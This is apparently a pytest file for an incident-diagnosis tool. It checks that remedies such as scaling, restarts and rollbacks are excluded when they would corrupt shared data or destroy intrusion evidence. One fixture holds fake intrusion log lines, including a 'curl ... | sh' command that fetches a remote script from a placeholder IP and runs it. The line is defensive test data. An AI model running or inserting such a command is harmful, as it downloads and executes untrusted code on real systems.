"""What nobody may override in a ladder is said so: it would corrupt data, or destroy the evidence of an intrusion."""

from __future__ import annotations

from typing import Any

import pytest

from tests.diagnosis.rules.tiny import log, pod, snapshot, workload
from tuheg_ir.diagnosis.answer import for_service
from tuheg_ir.diagnosis.decide import decide
from tuheg_ir.diagnosis.harm import once
from tuheg_ir.diagnosis.model import Excluded, Snapshot

SHOP = "Deployment/shop"
CLAIM = {"volumes": [{"name": "data", "persistentVolumeClaim": {"claimName": "shop"}}]}
RESTARTS = {"restart_workload", "restart_connection_pool", "rollback_workload"}


def said(snap: Snapshot, ref: str = SHOP) -> dict[str, bool]:
    """Return remedy -> whether its exclusion for a workload is final."""
    told = for_service(decide(snap), snap, ref)["excluded"]
    return {each["remedy"]: each["final"] for each in told if each["target"] == ref}


@pytest.mark.parametrize(
    ("spec", "service", "final"),
    [
        (CLAIM, {}, True),
        (CLAIM, {"replicas": {"shared_storage": True}}, False),
        ({}, {"database": {"single_primary": True}}, True),
        (CLAIM, {"replicas": {"shared_storage": True}, "database": {"single_primary": True}}, True),
    ],
)
def test_a_second_instance_on_the_same_data(spec: dict[str, Any], service: dict[str, Any], final: bool) -> None:
    snap = snapshot(workload("shop", spec=spec), services={"shop": {"kind": "Deployment", **service}})
    assert said(snap)["scale_workload"] is final


def test_an_intrusion_restarts_nothing() -> None:
    snap = snapshot(
        workload("shop", before={"image": "registry.example/shop:0"}),
        logs=[log(pod("shop"), "+ chmod +x /tmp/kdevtmpfsi", "sh: curl -fsSL http://203.0.113.7/a.sh | sh")],
    )
    found = said(snap)
    assert set(found) >= RESTARTS
    assert all(found.values())


def test_what_is_merely_useless_or_harmful_may_be_overridden() -> None:
    keys = {"secretKeyRef": {"name": "shop-keys", "key": "token"}}
    snap = snapshot(workload("shop", env={"TOKEN": keys}), {"kind": "Secret", "metadata": {"name": "other"}})
    found = said(snap)
    assert found["restart_workload"] is False
    assert found["rollback_workload"] is False, "there is no earlier template"


def test_what_is_final_is_told_before_what_is_not() -> None:
    mild, final = Excluded("scale_workload", SHOP, "useless"), Excluded("scale_workload", SHOP, "harm", final=True)
    other = Excluded("scale_workload", "Deployment/cart", "useless")
    assert once([mild, other, final]) == (final, other)
    assert once([final, mild]) == (final,)
    assert once([mild, mild]) == (mild,)
